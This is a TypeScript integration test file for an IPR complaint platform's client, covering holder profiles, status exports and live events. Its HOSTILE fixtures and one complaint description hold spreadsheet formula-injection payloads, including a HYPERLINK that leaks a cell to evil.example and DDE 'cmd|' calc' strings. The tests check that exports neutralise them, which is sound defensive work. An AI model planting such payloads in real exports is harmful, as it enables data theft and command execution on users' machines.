// Holder profiles, the status export and live events through the client, against the REAL
// reference API (in-process on PGlite, and once over a real socket with startServer).
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as XLSX from 'xlsx';
import Papa from 'papaparse';
import {
  DECLARATION_VERSION,
  LIMITS,
  statusReportHeaders,
  type ComplaintEvent,
  type EvidenceDescriptor,
  type Product,
} from '@ipr/validators';
import { createIprClient, unwrap, type IprClient, type LiveState } from '../src/index.js';
import { BASE, clientOn, countRequests, startApi, TOKENS, type TestApi } from './support/api.js';

let api: TestApi;

/** Product names a supplier could give its listings, each a formula if a spreadsheet ran it. */
const HOSTILE = [
  { id: 'hostile0001', name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
  { id: 'hostile0002', name: '+SUM(1,2)' },
  { id: 'hostile0003', name: "-2+3+cmd|' /C calc'!A0" },
  { id: 'hostile0004', name: '@SUM(1+1)' },
];
const productUrl = (id: string) => `https://market.example/product/${id}`;

before(async () => {
  api = await startApi();
  for (const p of HOSTILE) {
    await api.db.query(
      'insert into products (id, url, name, supplier_id, category, listed) values ($1, $2, $3, $4, $5, true) on conflict (id) do nothing',
      [p.id, productUrl(p.id), p.name, 'acc_supplier_a', 'lighting'],
    );
  }
});
after(async () => {
  await api?.close();
});

const client = clientOn(() => api);

const counting = <T>(run: () => Promise<T>) => countRequests(api, run);

function pdf(label: string): Blob {
  return new Blob([`%PDF-1.7\n% ${label}\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n`], { type: 'application/pdf' });
}
function png(): Blob {
  const data = new Uint8Array(1024);
  data.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Blob([data], { type: 'image/png' });
}
async function upload(c: IprClient, name: string): Promise<EvidenceDescriptor> {
  return unwrap(await c.evidence.upload(name.endsWith('.png') ? png() : pdf(name), { name }));
}

/** YYYY-MM-DD, `days` from today (UTC). */
const day = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);

let used = 0;
/** Listed products no earlier test used (an equal open complaint would be a 409 duplicate). */
async function freshProducts(n: number): Promise<Product[]> {
  const page = unwrap(await client().products.search({ q: 'lamp', pageSize: 50 }));
  const items = page.items.filter((p) => p.listed).slice(used, used + n);
  used += n;
  assert.equal(items.length, n, 'enough seeded products');
  return items;
}

async function fileComplaint(
  links: string[],
  c: IprClient = client(),
  description = 'These listings copy our registered trademark.',
) {
  const evidence = await upload(c, 'proof.png');
  const account = unwrap(await c.account.get());
  return unwrap(
    await c.complaints.create(
      {
        type: 'trademark_infringement',
        productLinks: links,
        description,
        contact: account.contact,
        isIprHolder: true,
        evidence: [{ id: evidence.id }],
        declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
      },
      { evidence: [evidence] },
    ),
  );
}

describe('holder profiles', () => {
  test('create → list → update → remove round-trip, with the power-of-attorney state', async () => {
    const c = client();
    const idDoc = await upload(c, 'licence.pdf');
    const poa = await upload(c, 'power-of-attorney.pdf');
    const holder = {
      name: 'Aurora Holdings Ltd.',
      identificationType: 'business_registration' as const,
      identificationNumber: '91440300MA5XXXXX',
      identificationAttachments: [idDoc.id],
      powerOfAttorney: [poa.id],
      powerOfAttorneyExpiresAt: day(10),
      profileId: 'ignored_on_input',
    };
    const created = await c.holderProfiles.create({ label: '  ', holder });
    assert.ok(created.data, JSON.stringify(created.error));
    assert.equal(created.response?.status, 201);
    assert.equal(created.data.label, holder.name, 'a blank label becomes the holder name');
    assert.deepEqual(created.data.powerOfAttorney, { state: 'expiring', expiresAt: day(10), daysLeft: 10 });
    assert.equal(created.data.holder.identificationNumber, holder.identificationNumber);
    assert.ok(!created.data.holder.profileId, 'profileId is not stored from input');

    const listed = unwrap(await c.holderProfiles.list());
    assert.equal(listed.items[0]?.id, created.data.id, 'newest first');

    const updated = await c.holderProfiles.update(created.data.id, {
      label: 'Main holder',
      holder: { ...holder, powerOfAttorneyExpiresAt: day(400) },
    });
    assert.ok(updated.data, JSON.stringify(updated.error));
    assert.equal(updated.data.label, 'Main holder');
    assert.equal(updated.data.powerOfAttorney.state, 'valid');
    assert.equal(
      unwrap(await c.holderProfiles.list()).items.find((p) => p.id === created.data!.id)?.label,
      'Main holder',
    );

    const removed = await c.holderProfiles.remove(created.data.id);
    assert.equal(removed.error, undefined);
    assert.equal(removed.data, null);
    assert.equal(removed.response?.status, 204);
    assert.ok(!unwrap(await c.holderProfiles.list()).items.some((p) => p.id === created.data!.id));
    const again = await c.holderProfiles.remove(created.data.id);
    assert.equal(again.error?.code, 'resource.not_found');
    assert.equal(again.error?.status, 404);
  });

  test("a profile that breaks the holder rule is refused before the network, with the validators' codes", async () => {
    const c = client();
    const cases: [unknown, string[]][] = [
      [
        { holder: { name: '', identificationNumber: '', identificationAttachments: [], powerOfAttorney: [] } },
        [
          'holder.name_required',
          'holder.id_type_required',
          'holder.id_number_required',
          'holder.attachments_required',
          'holder.power_of_attorney_required',
        ],
      ],
      [
        {
          holder: {
            name: 'X',
            identificationType: 'id_card',
            identificationNumber: '1',
            identificationAttachments: ['ev_1'],
            powerOfAttorney: ['ev_2'],
            powerOfAttorneyExpiresAt: day(-1),
          },
        },
        ['holder.power_of_attorney_expired'],
      ],
      [null, ['holder.required']],
      [
        {
          label: 'x'.repeat(LIMITS.maxProfileLabelLength + 1),
          holder: {
            name: 'X',
            identificationType: 'id_card',
            identificationNumber: '1',
            identificationAttachments: ['ev_1'],
            powerOfAttorney: ['ev_2'],
          },
        },
        ['field.too_long'],
      ],
    ];
    for (const [input, codes] of cases) {
      for (const call of [() => c.holderProfiles.create(input), () => c.holderProfiles.update('hp_any', input)]) {
        const { value, requests } = await counting(call);
        assert.equal(requests, 0, JSON.stringify(input));
        assert.equal(value.error?.status, 422);
        assert.deepEqual(value.error!.issues.map((i) => i.code).sort(), [...codes].sort());
      }
    }
  });

  test("what only the server knows: another account's documents (422), another account's profile (404), a supplier (403)", async () => {
    const a = client();
    const b = client(TOKENS.complainantB);
    const bDoc = await upload(b, 'b-licence.pdf');
    const foreign = await a.holderProfiles.create({
      holder: {
        name: 'Borrowed',
        identificationType: 'id_card',
        identificationNumber: 'X1',
        identificationAttachments: [bDoc.id],
        powerOfAttorney: [bDoc.id],
      },
    });
    assert.equal(foreign.error?.status, 422);
    assert.equal(foreign.error?.code, 'evidence.not_found');

    const aDoc = await upload(a, 'a-licence.pdf');
    const mine = unwrap(
      await a.holderProfiles.create({
        label: 'A only',
        holder: {
          name: 'Aurora',
          identificationType: 'id_card',
          identificationNumber: 'A1',
          identificationAttachments: [aDoc.id],
          powerOfAttorney: [aDoc.id],
        },
      }),
    );
    const input = { holder: { ...mine.holder, name: 'Taken over' } };
    for (const r of [await b.holderProfiles.update(mine.id, input), await b.holderProfiles.remove(mine.id)]) {
      assert.equal(r.error?.code, 'resource.not_found');
      assert.equal(r.error?.status, 404);
    }
    assert.ok(!unwrap(await b.holderProfiles.list()).items.some((p) => p.id === mine.id));
    assert.equal(
      unwrap(await a.holderProfiles.list()).items.find((p) => p.id === mine.id)?.holder.name,
      'Aurora',
      'unchanged',
    );
    const supplier = await client(TOKENS.supplierA).holderProfiles.list();
    assert.equal(supplier.error?.status, 403);
  });
});

describe('status report and export', () => {
  let hostileNumber = '';
  before(async () => {
    const complaint = await fileComplaint(
      HOSTILE.map((p) => productUrl(p.id)),
      client(),
      "=cmd|'/C calc'!A0 these copy our mark",
    );
    hostileNumber = complaint.number;
    unwrap(await client(TOKENS.platform).complaints.forward(complaint.id));
  });

  const FORMULA = /^[=+\-@\t\r]/;

  test('statusReport answers one row per product, newest complaint first', async () => {
    const report = unwrap(await client().complaints.statusReport({ q: hostileNumber }));
    assert.equal(report.truncated, false);
    assert.deepEqual(report.rows.map((r) => r.productUrl).sort(), HOSTILE.map((p) => productUrl(p.id)).sort());
    assert.ok(report.rows.every((r) => r.number === hostileNumber && r.status === 'awaiting_supplier'));
    const names = report.rows.map((r) => r.productName).sort();
    assert.deepEqual(names, HOSTILE.map((p) => p.name).sort(), 'the raw rows carry the names as stored');
    const all = unwrap(await client().complaints.statusReport());
    assert.ok(all.rows.length >= report.rows.length);
    const times = all.rows.map((r) => Date.parse(r.createdAt));
    assert.ok(
      times.every((t, i) => i === 0 || times[i - 1]! >= t),
      'newest complaint first',
    );
  });

  test('xlsx: a real workbook whose every cell is text and no cell can run as a formula', async () => {
    const result = await client().complaints.exportStatus({ format: 'xlsx' });
    assert.ok(result.data, JSON.stringify(result.error));
    const report = unwrap(await client().complaints.statusReport());
    assert.equal(result.data.rows, report.rows.length);
    assert.equal(result.data.truncated, false);
    assert.match(result.data.fileName, /^ipr-complaint-status-\d{4}-\d{2}-\d{2}\.xlsx$/);
    assert.equal(result.data.blob.type, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = XLSX.read(new Uint8Array(await result.data.blob.arrayBuffer()), { type: 'array', cellFormula: true });
    assert.deepEqual(book.SheetNames, ['Complaint status']);
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true, defval: '' });
    assert.deepEqual(rows[0], statusReportHeaders('en'));
    assert.equal(rows.length, 1 + report.rows.length);
    for (const [ref, cell] of Object.entries(sheet)) {
      if (ref.startsWith('!')) continue;
      assert.equal((cell as XLSX.CellObject).f, undefined, `${ref} has no formula`);
      assert.equal((cell as XLSX.CellObject).t, 's', `${ref} is text`);
      assert.doesNotMatch(String((cell as XLSX.CellObject).v), FORMULA, `${ref} cannot start a formula`);
    }
    const hostileRows = rows.filter((r) => r[0] === hostileNumber);
    assert.equal(hostileRows.length, HOSTILE.length);
    const nameCol = statusReportHeaders('en').indexOf('Product name');
    assert.deepEqual(
      hostileRows.map((r) => r[nameCol]).sort(),
      HOSTILE.map((p) => `'${p.name}`).sort(),
      'names kept, behind an apostrophe',
    );
    assert.ok(
      hostileRows.every((r) => r.includes('Awaiting supplier') && r.includes('Pending')),
      'labels, not codes',
    );
  });

  test('csv: UTF-8 with a BOM, zh-CN labels, parses back to the same table, neutralised', async () => {
    const result = await client().complaints.exportStatus({ format: 'csv', locale: 'zh-CN', q: hostileNumber });
    assert.ok(result.data, JSON.stringify(result.error));
    assert.equal(result.data.rows, HOSTILE.length);
    assert.match(result.data.fileName, /\.csv$/);
    assert.match(result.data.blob.type, /^text\/csv/);
    const bytes = new Uint8Array(await result.data.blob.arrayBuffer());
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes); // strips the BOM
    assert.ok(text.includes('\r\n'), 'CRLF rows');
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
    assert.deepEqual(parsed.errors, []);
    assert.deepEqual(parsed.data[0], statusReportHeaders('zh-CN'));
    assert.equal(parsed.data.length, 1 + HOSTILE.length);
    for (const row of parsed.data) for (const cell of row) assert.doesNotMatch(cell, FORMULA, cell);
    const nameCol = statusReportHeaders('en').indexOf('Product name');
    assert.deepEqual(
      parsed.data
        .slice(1)
        .map((r) => r[nameCol])
        .sort(),
      HOSTILE.map((p) => `'${p.name}`).sort(),
    );
    assert.ok(
      parsed.data.slice(1).every((r) => r.includes('等待供应商处理')),
      'zh-CN status label',
    );
  });

  test('filters reach the server; a supplier exports only its own products; a bad format costs no request', async () => {
    const none = unwrap(await client().complaints.exportStatus({ format: 'csv', status: 'arbitrated' }));
    const other = unwrap(await client().complaints.statusReport({ status: 'arbitrated' }));
    assert.equal(none.rows, other.rows.length);
    const supplierB = unwrap(
      await client(TOKENS.supplierB).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }),
    );
    assert.equal(supplierB.rows, 0, "the hostile products are supplier A's");
    const supplierA = unwrap(
      await client(TOKENS.supplierA).complaints.exportStatus({ format: 'xlsx', q: hostileNumber }),
    );
    assert.equal(supplierA.rows, HOSTILE.length);
    const { value, requests } = await counting(() => client().complaints.exportStatus({ format: 'pdf' as never }));
    assert.equal(requests, 0);
    assert.equal(value.error?.code, 'field.invalid_choice');
    assert.equal(value.error?.status, 422);
    const bad = await client().complaints.exportStatus({ format: 'csv', status: 'nonsense' });
    assert.equal(bad.error?.status, 422, 'the server refuses an unknown status');
    const unauth = await createIprClient({ baseUrl: BASE, fetch: api.fetch as typeof fetch }).complaints.exportStatus({
      format: 'csv',
    });
    assert.equal(unauth.error?.code, 'auth.unauthorized');
  });
});

/** Collects events of one subscription; `until` waits for a predicate on them. */
function follow(c: IprClient, after?: number) {
  const events: ComplaintEvent[] = [];
  const states: LiveState[] = [];
  const errors: string[] = [];
  const unsubscribe = c.events.subscribe((e) => events.push(e), {
    after,
    onState: (s) => states.push(s),
    onError: (e) => errors.push(e.code),
  });
  const until = async (check: () => boolean, what: string, ms = 8000) => {
    const end = Date.now() + ms;
    while (!check()) {
      if (Date.now() > end)
        throw new Error(`timed out waiting for ${what}; events: ${JSON.stringify(events)}; states: ${states}`);
      await new Promise((r) => setTimeout(r, 10));
    }
  };
  return { events, states, errors, unsubscribe, until };
}

describe('events', () => {
  test('the platform sees a new complaint and its forward live; the complainant sees its own only; `after` replays', async () => {
    const platform = follow(client(TOKENS.platform));
    const a = follow(client());
    const b = follow(client(TOKENS.complainantB));
    await Promise.all([platform, a, b].map((f) => f.until(() => f.states.includes('open'), 'open')));

    const [p1, p2] = await freshProducts(2);
    const created = await fileComplaint([p1!.url, p2!.url]);
    await platform.until(() => platform.events.some((e) => e.id === created.id), 'the create event');
    unwrap(await client(TOKENS.platform).complaints.forward(created.id));
    await platform.until(
      () => platform.events.some((e) => e.id === created.id && e.action === 'forward_to_supplier'),
      'the forward event',
    );
    await a.until(
      () => a.events.some((e) => e.id === created.id && e.action === 'forward_to_supplier'),
      'A hears its complaint forwarded',
    );

    const mine = platform.events.filter((e) => e.id === created.id);
    assert.deepEqual(
      mine.map((e) => [e.action, e.status]),
      [
        ['create', 'submitted'],
        ['forward_to_supplier', 'awaiting_supplier'],
      ],
    );
    assert.equal(mine[0]!.number, created.number);
    assert.ok(mine[1]!.seq > mine[0]!.seq);
    const seqs = platform.events.map((e) => e.seq);
    assert.deepEqual(
      seqs,
      [...seqs].sort((x, y) => x - y),
      'in seq order, each once',
    );
    assert.equal(new Set(seqs).size, seqs.length);
    assert.ok(!b.events.some((e) => e.id === created.id), 'another complainant hears nothing of it');

    // Replay: a new subscriber that was away since before the create.
    const replay = follow(client(TOKENS.platform), mine[0]!.seq - 1);
    await replay.until(
      () => replay.events.filter((e) => e.id === created.id).length === 2,
      'the replayed create and forward',
    );
    assert.deepEqual(
      replay.events.filter((e) => e.id === created.id),
      mine,
    );
    assert.equal(replay.events[0]!.seq, mine[0]!.seq, 'starts right after `after`');

    for (const f of [platform, a, b, replay]) f.unsubscribe();
    for (const f of [platform, a, b, replay]) assert.equal(f.states.at(-1), 'closed');
    assert.deepEqual(
      [platform, a, b, replay].flatMap((f) => f.errors),
      [],
    );
  });

  test('an unknown token: closed with auth.unauthorized after one request', async () => {
    const bad = follow(client('not-a-token'));
    const seen = api.seen.length;
    await bad.until(() => bad.states.includes('closed'), 'closed');
    await new Promise((r) => setTimeout(r, 200));
    assert.deepEqual(bad.errors, ['auth.unauthorized']);
    assert.deepEqual(bad.states, ['connecting', 'closed']);
    assert.ok(api.seen.length - seen <= 1);
  });

  test('over a real socket (startServer, Node fetch): live delivery, and unsubscribe closes the subscription', async () => {
    const { startServer } = await import('@ipr/server/node');
    const dataDir = await mkdtemp(join(tmpdir(), 'ipr-client-events-'));
    const server = await startServer({
      port: 0,
      hostname: '127.0.0.1',
      dataDir,
      seed: true,
      catalogueSize: 60,
      ...(process.env.TEST_DATABASE_URL ? { databaseUrl: process.env.TEST_DATABASE_URL } : {}),
    });
    const http = (token: string) => createIprClient({ baseUrl: server.url, token });
    const platform = follow(http(TOKENS.platform));
    try {
      await platform.until(() => platform.states.includes('open'), 'open');
      const products = unwrap(
        await http(TOKENS.complainantA).products.search({ q: 'lamp', pageSize: 50 }),
      ).items.filter((p) => p.listed);
      const c = http(TOKENS.complainantA);
      // Products in no open complaint of A (a kept PostgreSQL database remembers earlier runs), and
      // the complaint is cancelled at the end so the next run finds them free again.
      const free = unwrap(await c.products.resolveLinks(products.map((p) => p.url))).items.filter(
        (i) => i.status === 'found' && !i.openComplaint,
      );
      const pick = free
        .sort(() => Math.random() - 0.5)
        .slice(0, 3)
        .map((i) => i.product!);
      assert.ok(pick.length > 0, 'a product in no open complaint');
      const evidence = unwrap(await c.evidence.upload(png(), { name: 'proof.png' }));
      const account = unwrap(await c.account.get());
      const created = await c.complaints.create(
        {
          type: 'copyright_infringement',
          productLinks: pick.map((p) => p.url),
          description: `Copied pictures ${Date.now()}`,
          contact: account.contact,
          isIprHolder: true,
          evidence: [{ id: evidence.id }],
          declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
        },
        { evidence: [evidence] },
      );
      assert.ok(created.data, JSON.stringify(created.error));
      await platform.until(
        () => platform.events.some((e) => e.id === created.data!.id && e.action === 'create'),
        'the create over HTTP',
      );
      unwrap(await c.complaints.cancel(created.data.id, { reason: 'test run over' }));
      await platform.until(
        () => platform.events.some((e) => e.id === created.data!.id && e.action === 'cancel'),
        'the cancel over HTTP',
      );
      platform.unsubscribe();
      assert.equal(platform.states.at(-1), 'closed');
      assert.deepEqual(platform.errors, []);
    } finally {
      platform.unsubscribe();
      await server.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});
